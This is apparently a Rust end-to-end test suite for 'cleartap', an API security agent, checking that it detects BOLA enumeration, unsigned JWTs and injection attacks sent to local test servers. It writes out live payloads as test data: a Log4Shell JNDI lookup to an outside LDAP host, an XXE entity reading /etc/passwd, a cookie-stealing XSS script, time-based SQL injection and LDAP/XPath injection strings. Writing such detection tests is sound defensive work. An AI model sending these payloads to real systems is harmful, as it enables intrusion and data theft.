//! End-to-end detections over real TLS: a python client enumerates /users/1..50 with one token
//! (BOLA-1) and presents an unsigned JWT without expiry that the server accepts (AUTH-1,
//! AUTH-3); then `cleartap replay` over the agent's own output finds the same. A time-based SQL
//! injection is confirmed only against an API whose database really waited. Root; CI runs it.

use std::process::Command;

use cleartap_e2e::{
    Agent, TempDir, WAIT, agent_binary, free_port,
    peers::{PYTHON, curl, peers_dir, python_server, sqli_app},
    privileged, redaction_tag, run_client,
};
use serde_json::Value;

const TOKEN: &str = "opaque-session-token-8f41";

fn by_rule<'a>(findings: &'a [Value], id: &str) -> Vec<&'a Value> {
    findings.iter().filter(|f| f["rule"]["id"] == id).collect()
}

#[test]
fn bola_enumeration_and_unsigned_jwt_live_and_in_replay() {
    if !privileged() {
        return;
    }
    let dir = TempDir::new("detect");
    let port = free_port();
    let server = python_server(&dir, port);
    let key_file = dir.path("token.key");
    let live_inventory = dir.path("live-inventory.json");
    let agent = Agent::start(&[
        "--token-key-file",
        &key_file.to_string_lossy(),
        "--inventory-file",
        &live_inventory.to_string_lossy(),
        "--pid",
        &server.0.id().to_string(),
    ]);
    let mut cmd = Command::new(PYTHON);
    cmd.arg(peers_dir().join("api_client.py"))
        .arg(port.to_string())
        .arg(TOKEN)
        .arg("50");
    let (_, out) = run_client(&mut cmd);
    assert!(out.split_whitespace().all(|s| s == "200"), "{out}");
    let deadline = std::time::Instant::now() + WAIT;
    while (by_rule(&agent.findings(), "BOLA-1").is_empty()
        || by_rule(&agent.findings(), "AUTH-3").is_empty())
        && std::time::Instant::now() < deadline
    {
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let findings = agent.findings();
    let tag = redaction_tag(&key_file, TOKEN);
    let bola = by_rule(&findings, "BOLA-1");
    assert_eq!(
        bola.len(),
        1,
        "one BOLA-1 (the rest deduplicated): {findings:#?}"
    );
    let b = bola[0];
    assert_eq!(b["rule"]["owasp"], "API1:2023");
    assert_eq!(b["rule"]["severity"], "high");
    assert_eq!(b["actor"]["token"], Value::from(tag.as_str()));
    assert_eq!(b["actor"]["client_ip"], "127.0.0.1");
    assert_eq!(b["route"]["host"], "api.test");
    assert_eq!(b["route"]["method"], "GET");
    assert_eq!(b["route"]["template"], "/users/{id}");
    assert_eq!(b["evidence"]["distinct_ids"], 20);
    let server_paths: Vec<String> = agent
        .events()
        .iter()
        .filter(|e| e["schema"] == "cleartap.http_exchange/1")
        .map(|e| e["request"]["path"].as_str().unwrap_or("").to_owned())
        .collect();
    assert_eq!(
        b["exchange"]["request"]["path"], "/users/20",
        "{server_paths:?}"
    );
    assert_eq!(b["exchange"]["connection"]["role"], "server");
    let auth1 = by_rule(&findings, "AUTH-1");
    assert_eq!(auth1.len(), 1, "{findings:#?}");
    assert_eq!(auth1[0]["route"]["template"], "/me");
    assert_eq!(auth1[0]["evidence"]["jwt_alg"], "none");
    assert_eq!(auth1[0]["evidence"]["status"], 200);
    assert_eq!(auth1[0]["rule"]["severity"], "critical");
    // The same unsigned token never expires either.
    let auth3 = by_rule(&findings, "AUTH-3");
    assert_eq!(auth3.len(), 1, "{findings:#?}");
    assert_eq!(auth3[0]["evidence"]["problem"], "no_expiry");
    assert_eq!(auth3[0]["route"]["template"], "/me");
    // Nothing else: ordinary reads by one token are not findings.
    let others: Vec<&Value> = findings
        .iter()
        .filter(|f| {
            !["BOLA-1", "AUTH-1", "AUTH-3"].contains(&f["rule"]["id"].as_str().unwrap_or(""))
        })
        .collect();
    assert!(others.is_empty(), "{others:#?}");
    let text = findings.iter().map(Value::to_string).collect::<String>();
    assert!(!text.contains(TOKEN), "the token leaked into a finding");
    // The inventory on demand (SIGUSR1), from the live agent.
    agent.signal(libc::SIGUSR1);
    agent.wait_stderr("SIGUSR1: API inventory written", WAIT);
    let live: Value =
        serde_json::from_str(&std::fs::read_to_string(&live_inventory).expect("inventory"))
            .expect("json");
    assert_eq!(live["schema"], "cleartap.inventory/1");
    assert_eq!(live["hosts"]["api.test"]["GET /users/{id}"]["requests"], 50);
    assert_eq!(live["hosts"]["api.test"]["GET /me"]["requests"], 1);
    // Replay the agent's own output: the same two findings.
    let saved = dir.path("live.jsonl");
    let lines: String = agent.events().iter().map(|e| format!("{e}\n")).collect();
    std::fs::write(&saved, lines).expect("save events");
    agent.stop();
    let inventory = dir.path("inventory.json");
    let out = Command::new(agent_binary())
        .arg("replay")
        .arg(&saved)
        .arg("--inventory-out")
        .arg(&inventory)
        .output()
        .expect("cleartap replay");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let replayed: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("finding json"))
        .collect();
    let ids: Vec<&str> = replayed
        .iter()
        .map(|f| f["rule"]["id"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(ids, ["BOLA-1", "AUTH-1", "AUTH-3"], "{replayed:#?}");
    assert_eq!(replayed[0]["actor"]["token"], Value::from(tag.as_str()));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("replayed 51 exchanges"), "{stderr}");
    let inventory: Value =
        serde_json::from_str(&std::fs::read_to_string(&inventory).expect("inventory"))
            .expect("json");
    let users = &inventory["hosts"]["api.test"]["GET /users/{id}"];
    assert_eq!(users["requests"], 50);
    assert_eq!(users["status_2xx"], 50);
    assert_eq!(users["with_auth"], 50);
}

/// Layered injection: the same time-based SQL injection against an API whose database really
/// executes it (SQLite, string-built query) and against one that binds it as a parameter.
/// Only the first is confirmed by the response's delay.
#[test]
fn time_based_sqli_confirmed_only_where_the_database_slept() {
    if !privileged() {
        return;
    }
    let dir = TempDir::new("sqli-delay");
    let (vulnerable_port, safe_port) = (free_port(), free_port());
    let vulnerable = sqli_app(&dir, vulnerable_port, false);
    let safe = sqli_app(&dir, safe_port, true);
    let agent = Agent::start(&[]);
    let payload = "id=1%20AND%20sleep(2)";
    let mut took = Vec::new();
    for port in [vulnerable_port, safe_port] {
        let start = std::time::Instant::now();
        let (_, out) = run_client(&mut curl(&[
            "-sk",
            &format!("https://127.0.0.1:{port}/items?{payload}"),
        ]));
        took.push(start.elapsed());
        assert!(out.contains("items"), "{out}");
    }
    assert!(took[0] >= std::time::Duration::from_secs(2), "{took:?}");
    assert!(took[1] < std::time::Duration::from_secs(1), "{took:?}");
    let findings = agent.wait_events(2, WAIT, |e| e["rule"]["id"] == "INJ-1");
    let of = |pid: u32| {
        findings
            .iter()
            .find(|f| f["exchange"]["process"]["pid"] == pid)
            .unwrap_or_else(|| panic!("no INJ-1 for pid {pid}: {findings:#?}"))
    };
    let confirmed = of(vulnerable.0.id());
    assert_eq!(confirmed["rule"]["confidence"], "high");
    assert_eq!(confirmed["evidence"]["kind"], "sqli");
    assert_eq!(confirmed["evidence"]["input"], "query.id");
    assert_eq!(confirmed["evidence"]["matched"], "1 AND sleep(2)");
    assert_eq!(confirmed["evidence"]["requested_delay_ms"], 2000);
    assert_eq!(confirmed["evidence"]["confirmed_by"], "response_delay");
    let latency = confirmed["evidence"]["latency_ms"]
        .as_u64()
        .expect("latency_ms");
    assert!((1800..10_000).contains(&latency), "{latency}");
    let unconfirmed = of(safe.0.id());
    assert_eq!(unconfirmed["rule"]["confidence"], "medium");
    assert_eq!(unconfirmed["evidence"]["requested_delay_ms"], 2000);
    assert!(unconfirmed["evidence"].get("confirmed_by").is_none());
    // Reflected XSS: the page that echoes the query unescaped confirms, the escaping one not.
    for port in [vulnerable_port, safe_port] {
        let (_, out) = run_client(&mut curl(&[
            "-sk",
            &format!(
                "https://127.0.0.1:{port}/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"
            ),
        ]));
        assert!(out.contains("Results for"), "{out}");
    }
    let xss = agent.wait_events(2, WAIT, |e| {
        e["rule"]["id"] == "INJ-1" && e["evidence"]["kind"] == "xss"
    });
    let of = |pid: u32| {
        xss.iter()
            .find(|f| f["exchange"]["process"]["pid"] == pid)
            .unwrap_or_else(|| panic!("no XSS finding for pid {pid}: {xss:#?}"))
    };
    let confirmed = of(vulnerable.0.id());
    assert_eq!(confirmed["evidence"]["input"], "query.q");
    assert_eq!(confirmed["evidence"]["confirmed_by"], "reflected_script");
    assert_eq!(confirmed["rule"]["confidence"], "high");
    let escaped = of(safe.0.id());
    assert!(
        escaped["evidence"].get("confirmed_by").is_none(),
        "{escaped:#}"
    );
    assert_eq!(escaped["rule"]["confidence"], "medium");
    agent.stop();
}

/// INJ-3 over real TLS: a Log4Shell lookup in the User-Agent, an XML external entity in a POST
/// body and a template expression in the query, each named by its location.
#[test]
fn jndi_header_xxe_body_and_template_query_over_tls() {
    if !privileged() {
        return;
    }
    let dir = TempDir::new("inj3");
    let port = free_port();
    let server = python_server(&dir, port);
    let agent = Agent::start(&["--pid", &server.0.id().to_string()]);
    let base = format!("https://127.0.0.1:{port}");
    let xxe =
        r#"<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>"#;
    for args in [
        vec![
            "-A".to_owned(),
            "${${lower:j}ndi:ldap://198.51.100.7:1389/a}".to_owned(),
            format!("{base}/api/items"),
        ],
        vec![
            "-H".to_owned(),
            "Content-Type: application/xml".to_owned(),
            "--data-binary".to_owned(),
            xxe.to_owned(),
            format!("{base}/import"),
        ],
        vec![format!("{base}/greet?name=%7B%7B7*7%7D%7D")],
    ] {
        let mut all = vec!["-sk", "-o", "/dev/null"];
        all.extend(args.iter().map(String::as_str));
        run_client(&mut curl(&all));
    }
    let findings = agent.wait_events(3, WAIT, |e| e["rule"]["id"] == "INJ-3");
    let by_path = |path: &str| {
        findings
            .iter()
            .find(|f| f["exchange"]["request"]["path"] == path)
            .unwrap_or_else(|| panic!("no INJ-3 on {path}: {findings:#?}"))
    };
    for (path, kind, input) in [
        ("/api/items", "jndi_lookup", "header.user-agent"),
        ("/import", "xxe", "body.xml"),
        ("/greet", "template_injection", "query.name"),
    ] {
        let f = by_path(path);
        assert_eq!(f["evidence"]["kind"], kind, "{f:#}");
        assert_eq!(f["evidence"]["input"], input, "{f:#}");
        assert_eq!(f["rule"]["severity"], "high");
        assert_eq!(f["rule"]["confidence"], "medium");
        assert_eq!(f["actor"]["client_ip"], "127.0.0.1");
        assert_eq!(f["exchange"]["process"]["pid"], server.0.id());
    }
    agent.stop();
}

/// A sample of each public attack corpus, sent for real over TLS and judged by the live agent
/// (dedup off, so every request can become a finding): sqlmap's requests per technique
/// (rendered from the installed sqlmap, agent/tests/corpus/sqlmap/render.py), libinjection's XSS
/// samples, PayloadsAllTheThings' template, Log4Shell and CRLF lists. Each request has its own
/// path, so each finding names the request it judged; ≥ 90 % per family must be found by the
/// family's rule.
#[test]
fn public_attack_corpora_sample_detected_live_per_family() {
    if !privileged() {
        return;
    }
    let Some(python) = cleartap_e2e::peers::test_python() else {
        return;
    };
    let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../agent/tests/corpus");
    let render = Command::new(&python)
        .arg(corpus.join("sqlmap/render.py"))
        .args(["--per-technique", "12"])
        .output()
        .expect("render sqlmap requests");
    assert!(
        render.status.success(),
        "{}",
        String::from_utf8_lossy(&render.stderr)
    );
    let encode = |s: &str| -> String {
        s.bytes()
            .map(|b| match b {
                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                    (b as char).to_string()
                }
                _ => format!("%{b:02X}"),
            })
            .collect()
    };
    let lines = |file: &str, every: usize| -> Vec<String> {
        std::fs::read_to_string(corpus.join(file))
            .expect(file)
            .lines()
            .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
            .step_by(every)
            .map(str::to_owned)
            .collect()
    };
    // (family, rule, method, target, headers)
    let mut requests: Vec<(String, &str, String, Value)> = Vec::new();
    let mut cookie_payloads = Vec::new();
    for (n, line) in String::from_utf8_lossy(&render.stdout).lines().enumerate() {
        let r: Value = serde_json::from_str(line).expect("rendered");
        let value = r["value"].as_str().expect("value");
        if n % 7 == 0 {
            cookie_payloads.push(encode(value));
        }
        requests.push((
            format!("sqlmap {}", r["technique"].as_str().expect("technique")),
            "INJ-1",
            format!("?id={}", encode(value)),
            serde_json::json!({}),
        ));
    }
    for xss in lines("libinjection/xss-owasp-cheatsheet-20131120.txt", 3)
        .into_iter()
        .take(25)
    {
        requests.push((
            "libinjection xss".into(),
            "INJ-1",
            format!("?q={}", encode(&xss)),
            serde_json::json!({}),
        ));
    }
    for ssti in lines("payloadsallthethings/ssti.fuzz", 5) {
        requests.push((
            "template".into(),
            "INJ-3",
            format!("?name={}", encode(&ssti)),
            serde_json::json!({}),
        ));
    }
    for jndi in lines("payloadsallthethings/log4shell.txt", 2) {
        requests.push((
            "jndi".into(),
            "INJ-3",
            String::new(),
            serde_json::json!({ "User-Agent": jndi }),
        ));
    }
    // In a cookie: the event carries the Cookie header redacted whole, the rules read each
    // cookie from the tap.
    for payload in cookie_payloads.iter().take(10) {
        requests.push((
            "sqlmap in a cookie".into(),
            "INJ-1",
            String::new(),
            serde_json::json!({ "Cookie": format!("theme=dark; pref={payload}") }),
        ));
    }
    for lfi in lines("payloadsallthethings/jhaddix_lfi.txt", 40) {
        requests.push((
            "file inclusion".into(),
            "INJ-2",
            format!("?file={}", encode(&lfi)),
            serde_json::json!({}),
        ));
    }
    for (value, family) in [
        ("*)(uid=*))(|(uid=*", "ldap_injection"),
        ("admin*)((|userpassword=*)", "ldap_injection"),
        ("x' or name()='admin' or 'x'='y", "xpath_injection"),
        ("count(/child::node())", "xpath_injection"),
    ] {
        requests.push((
            family.into(),
            "INJ-3",
            format!("?user={}", encode(value)),
            serde_json::json!({}),
        ));
    }
    let dir = TempDir::new("corpora-live");
    let port = free_port();
    let server = python_server(&dir, port);
    let config = dir.path("cleartap.toml");
    std::fs::write(&config, "[detect]\ndedup_secs = 0\n").expect("config");
    let agent = Agent::start(&[
        "--pid",
        &server.0.id().to_string(),
        "--config",
        config.to_str().expect("utf-8"),
    ]);
    let input: String = requests
        .iter()
        .enumerate()
        .map(|(i, (_, _, query, headers))| {
            serde_json::json!({ "method": "GET", "target": format!("/probe/{i}{query}"), "headers": headers })
                .to_string()
                + "\n"
        })
        .collect();
    let mut sender = Command::new(&python)
        .arg(peers_dir().join("send_requests.py"))
        .args(["127.0.0.1", &port.to_string()])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("sender");
    std::io::Write::write_all(sender.stdin.as_mut().expect("stdin"), input.as_bytes())
        .expect("send");
    drop(sender.stdin.take());
    let out = sender.wait_with_output().expect("sender done");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        requests.len().to_string()
    );
    // Every exchange judged: the server side of each request is an event.
    agent.wait_events(requests.len(), WAIT, |e| {
        e["schema"] == "cleartap.http_exchange/1" && e["process"]["pid"] == server.0.id()
    });
    std::thread::sleep(std::time::Duration::from_millis(500));
    let findings = agent.findings();
    let mut per: std::collections::BTreeMap<&str, (usize, usize)> = Default::default();
    for (i, (family, rule, _, _)) in requests.iter().enumerate() {
        let path = format!("/probe/{i}");
        let found = findings.iter().any(|f| {
            f["rule"]["id"] == *rule
                && f["exchange"]["request"]["path"] == path.as_str()
                && match family.as_str() {
                    "sqlmap in a cookie" => f["evidence"]["input"] == "cookie.pref",
                    "ldap_injection" | "xpath_injection" => f["evidence"]["kind"] == *family,
                    _ => true,
                }
        });
        let entry = per.entry(family.as_str()).or_default();
        entry.0 += 1;
        entry.1 += usize::from(found);
    }
    // The cookie's value is never printed: not in the event, not in the finding.
    for f in findings
        .iter()
        .filter(|f| f["evidence"]["input"] == "cookie.pref")
    {
        let text = f.to_string();
        assert!(!text.contains("pref="), "{text}");
        for payload in cookie_payloads.iter().filter(|p| p.len() >= 8) {
            assert!(!text.contains(payload.as_str()), "{text}");
        }
    }
    agent.stop();
    for (family, (total, found)) in &per {
        println!("live over TLS: {family}: {found}/{total}");
    }
    assert!(per.len() >= 12, "{per:?}");
    for (family, (total, found)) in &per {
        assert!(
            *found * 10 >= *total * 9,
            "{family}: {found}/{total} below 90 %"
        );
    }
}
